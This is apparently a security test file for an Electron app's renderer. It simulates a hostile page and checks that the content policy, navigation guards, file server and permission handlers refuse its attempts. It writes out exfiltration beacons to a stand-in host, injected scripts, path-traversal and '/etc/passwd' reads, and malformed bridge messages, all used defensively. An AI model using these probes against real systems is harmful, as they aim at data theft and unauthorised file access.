/** Attacks on the running shell, from inside its own page: what a hostile script would try first. */
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import type { Page } from 'playwright-core'
import { contentSecurityPolicy } from '../../electron/security/csp.ts'
import { CONTENT_SECURITY_POLICY } from '../../server/http/guards.ts'
import { buildFixture, fixtureDir } from './harness/build-fixture.ts'
import { enterWorkstation } from './harness/enter.ts'
import { describeShell, temporaryFolder } from './harness/kinds.ts'
import { patience } from './harness/shell.ts'
import type { Shell } from './harness/shell.ts'
import { standInLauncher } from './harness/stand-in-shell.ts'
import type {} from './fixture/page/page.ts'

beforeAll(buildFixture)

describeShell('a hostile page', (launcher) => {
  const folder = temporaryFolder()
  let shell: Shell
  let page: Page

  beforeAll(async () => {
    shell = await launcher.open({ appDir: fixtureDir, userDataDir: folder.path })
    page = await enterWorkstation(shell)
    // links that leave are noted, not opened
    await shell.evaluate((electron) => {
      const opened: string[] = []
      Object.assign(globalThis, { opened })
      electron.shell.openExternal = (url) => {
        opened.push(url)
        return Promise.resolve()
      }
    }, null)
  })
  afterAll(async () => {
    await shell.close()
    folder.remove()
  })

  const opened = () => shell.evaluate(() => Reflect.get(globalThis, 'opened') as string[], null)
  const isStillHere = () => page.evaluate(() => window.fixture.client.echo.query({ text: 'here' }))

  it('sees exactly the agreed bridge', async () => {
    const surface = await page.evaluate(() => {
      const kinds = (value: unknown): unknown =>
        typeof value === 'object' && value !== null
          ? Object.fromEntries(Object.entries(value).map(([name, inner]) => [name, kinds(inner)]))
          : typeof value
      return kinds(window.kituo)
    })
    expect(surface).toEqual({
      trpc: { send: 'function', onMessage: 'function' },
      files: { chooseExtract: 'function' },
      platform: { kind: 'string', os: 'string', version: 'string', onMenuCommand: 'function' },
    })
    expect(
      await page.evaluate(() => [
        typeof Reflect.get(window, 'require'),
        typeof Reflect.get(window, 'module'),
        typeof Reflect.get(window, 'ipcRenderer'),
      ]),
    ).toEqual(['undefined', 'undefined', 'undefined'])
  })

  it('cannot replace the bridge', async () => {
    const survived = await page.evaluate(() => {
      const before = window.kituo?.trpc.send
      try {
        Object.defineProperty(window, 'kituo', { value: 'mine' })
      } catch {
        // refused, as it should be
      }
      try {
        Object.assign(window.kituo?.trpc ?? {}, { send: null })
      } catch {
        // refused, as it should be
      }
      return typeof before === 'function' && typeof window.kituo?.trpc.send === 'function'
    })
    expect(survived).toBe(true)
  })

  it('runs under the production policy: no inline script, no eval, no foreign script, no form', async () => {
    const header = await page.evaluate(async () => (await fetch('index.html')).headers.get('content-security-policy'))
    expect(header).toBe(contentSecurityPolicy)
    const ran = await page.evaluate(async () => {
      const violations: string[] = []
      document.addEventListener('securitypolicyviolation', (event) => violations.push(event.effectiveDirective))
      const inline = document.createElement('script')
      inline.textContent = 'window.hacked = true'
      document.body.append(inline)
      const foreign = document.createElement('script')
      foreign.src = 'https://example.invalid/x.js'
      document.body.append(foreign)
      const image = document.createElement('img')
      image.src = 'https://example.invalid/pixel.gif?data=secret'
      document.body.append(image)
      const fetched = await fetch('https://example.invalid/collect').then(
        () => true,
        () => false,
      )
      // in a task of its own: a debugger's evaluation may use eval, a task of the page may not
      const { promise, resolve } = Promise.withResolvers<boolean>()
      const hop = new MessageChannel()
      hop.port1.onmessage = () => {
        try {
          resolve(Boolean(new Function('return true')()))
        } catch {
          resolve(false)
        }
      }
      hop.port2.postMessage(null)
      const evaluated = await promise
      return { hacked: Reflect.get(window, 'hacked') === true, evaluated, fetched, violations: [...new Set(violations)].sort() }
    })
    expect(ran).toMatchObject({ hacked: false, evaluated: false, fetched: false })
    expect(ran.violations).toEqual(expect.arrayContaining(['connect-src', 'img-src', 'script-src-elem']))
  })

  it('cannot leave: neither by address, nor by a link, nor by a form', async () => {
    for (const target of [
      'https://example.invalid/?next=app://kituo',
      'http://kituo.example/',
      'file:///etc/passwd',
      'data:text/html,<h1>x',
      'https://app@kituo.example/',
    ]) {
      await page
        .evaluate((address) => {
          const link = document.createElement('a')
          link.href = address
          document.body.append(link)
          link.click()
          window.location.assign(address)
        }, target)
        .catch(() => undefined)
      expect(await isStillHere()).toEqual({ text: 'here' })
    }
    expect(await opened()).toEqual([])
  })

  it('cannot open a window; only a safe link leaves, re-written', async () => {
    const addresses = [
      'https://example.org/a b?q=1',
      'mailto:duty@example.org',
      'tel:+250788000000',
      'http://example.org/',
      'file:///etc/passwd',
      'javascript:alert(1)',
      'ms-settings:privacy',
      'https://admin:secret@example.org/',
      'smb://server/share',
      'app://kituo/index.html',
    ]
    await page.evaluate((list) => list.forEach((address) => window.open(address)), addresses)
    await page.evaluate(() => {
      const link = document.createElement('a')
      link.href = 'https://example.org/manual'
      link.target = '_blank'
      document.body.append(link)
      link.click()
    })
    const safe = ['https://example.org/a%20b?q=1', 'mailto:duty@example.org', 'tel:+250788000000', 'https://example.org/manual']
    await expect.poll(async () => (await opened()).toSorted(), patience).toEqual(safe.toSorted())
    expect(await shell.evaluate(({ BrowserWindow }) => BrowserWindow.getAllWindows().length, null)).toBe(1)
  })

  it('cannot put a frame of another origin on the page', async () => {
    const frames = await page.evaluate(async () => {
      const frame = document.createElement('iframe')
      frame.src = 'https://example.invalid/'
      const { promise, resolve } = Promise.withResolvers<void>()
      document.addEventListener('securitypolicyviolation', () => resolve(), { once: true })
      document.body.append(frame)
      await promise
      return document.querySelectorAll('iframe').length
    })
    expect(frames).toBe(1)
    expect(page.frames().every((frame) => !frame.url().includes('example.invalid'))).toBe(true)
  })

  it('reads no file outside the screens', async () => {
    const statuses = await page.evaluate(async () => {
      const attempts = [
        '../package.json',
        '%2e%2e/package.json',
        '..%2f..%2fpackage.json',
        '%2e%2e%5c%2e%2e%5cpackage.json',
        'index.html%00.js',
        '/etc/passwd',
        '.%2e/main/main.js',
        'C:/Windows/win.ini',
        '%252e%252e/package.json',
      ]
      const answers = await Promise.all(
        attempts.map(async (path) =>
          fetch(`/./${path}`).then(
            (response) => response.status,
            () => 'refused' as const,
          ),
        ),
      )
      const post = await fetch('/index.html', { method: 'POST' })
      return { answers, post: post.status }
    })
    expect(statuses.answers.filter((status) => status !== 404 && status !== 'refused')).toEqual([])
    expect(statuses.post).toBe(405)
  })

  it('gets byte ranges of a file', async () => {
    const answer = await page.evaluate(async () => {
      const whole = await (await fetch('/index.html')).text()
      const part = await fetch('/index.html', { headers: { range: 'bytes=2-8' } })
      return { status: part.status, text: await part.text(), same: whole.slice(2, 9), range: part.headers.get('content-range') }
    })
    expect(answer.status).toBe(206)
    expect(answer.text).toBe(answer.same)
    expect(answer.range).toMatch(/^bytes 2-8\/\d+$/)
  })

  it('sends nonsense over the bridge and nothing happens', async () => {
    await page.evaluate(() => {
      const send = window.kituo?.trpc.send
      for (const message of [
        null,
        1,
        'x',
        {},
        { method: 'request' },
        { method: 'request', id: -1, type: 'query', path: 'echo' },
        { method: 'request', id: 1, type: 'exec', path: 'echo' },
        { method: 'stop', id: 'all' },
        { method: 'request', id: 1, type: 'query', path: '../../etc' },
        { method: 'request', id: 2, type: 'query', path: '__proto__.constructor' },
      ])
        send?.(message)
    })
    expect(await isStillHere()).toEqual({ text: 'here' })
  })
})

describe('what only the stand-in can show', () => {
  const folder = temporaryFolder()
  let shell: Shell
  let page: Page

  beforeAll(async () => {
    shell = await standInLauncher.open({ appDir: fixtureDir, userDataDir: folder.path })
    page = await shell.page('app://kituo/')
  })
  afterAll(async () => {
    await shell.close()
    folder.remove()
  })

  it('sandboxes before it is ready and registers the scheme without bypassing the policy', async () => {
    expect((await shell.journalEntry('ready')).detail).toMatchObject({ isSandboxed: true })
    expect((await shell.journalEntry('schemes')).detail).toEqual([
      { scheme: 'app', privileges: { standard: true, secure: true, supportFetchAPI: true, stream: true, codeCache: true } },
    ])
  })

  it('drops messages of a sub-frame, even of the same origin', async () => {
    const answered = await page.evaluate(async () => {
      const frame = document.createElement('iframe')
      frame.src = '/index.html'
      // frame-ancestors 'none' refuses the page; its empty document still has the raw channel of the stand-in
      document.body.append(frame)
      const inner = frame.contentWindow
      if (inner === null) return 'no frame'
      const send: unknown = Reflect.get(inner, '__electronSend')
      if (typeof send !== 'function') return 'no channel'
      send('kituo:trpc', ['00000000-0000-4000-8000-000000000000', { method: 'request', id: 1, type: 'mutation', path: 'signIn' }])
      return 'sent'
    })
    expect(answered).toBe('sent')
    await expect.poll(() => shell.log(), patience).toContain('sub-frame')
    expect(await page.evaluate(() => window.fixture.client.who.query())).toMatchObject({ isSignedIn: false })
  })

  it('never reached the network', () => {
    expect(shell.journal.filter((entry) => entry.what === 'network')).toEqual([])
  })

  it('refuses permissions, devices included, to everything but the table', async () => {
    const answers = await shell.evaluate((electron) => {
      const { request, check, device } = Reflect.get(electron, 'permissionHandlers') as {
        request(contents: null, permission: string, answer: (granted: boolean) => void, details: object): void
        check(contents: null, permission: string, origin: string, details: object): boolean
        device(details: object): boolean
      }
      const ask = (permission: string, requestingUrl: string, isMainFrame = true): boolean => {
        let granted = false
        request(null, permission, (value) => (granted = value), { requestingUrl, isMainFrame })
        return granted
      }
      const home = 'app://kituo/index.html'
      return {
        notifications: ask('notifications', home),
        fromFrame: ask('notifications', home, false),
        foreign: ask('notifications', 'https://kituo/'),
        geolocation: ask('geolocation', home),
        media: ask('media', home),
        openExternal: ask('openExternal', home),
        checkOwn: check(null, 'fullscreen', 'app://kituo', { isMainFrame: true, requestingUrl: home }),
        checkForeign: check(null, 'fullscreen', 'https://example.org', { isMainFrame: true, requestingUrl: 'https://example.org/' }),
        device: device({ deviceType: 'usb', origin: 'app://kituo' }),
      }
    }, null)
    expect(answers).toEqual({
      notifications: true,
      fromFrame: false,
      foreign: false,
      geolocation: false,
      media: false,
      openExternal: false,
      checkOwn: true,
      checkForeign: false,
      device: false,
    })
  })
})

it('has one policy for the shell and for browsers', () => {
  expect(contentSecurityPolicy).toBe(CONTENT_SECURITY_POLICY)
})
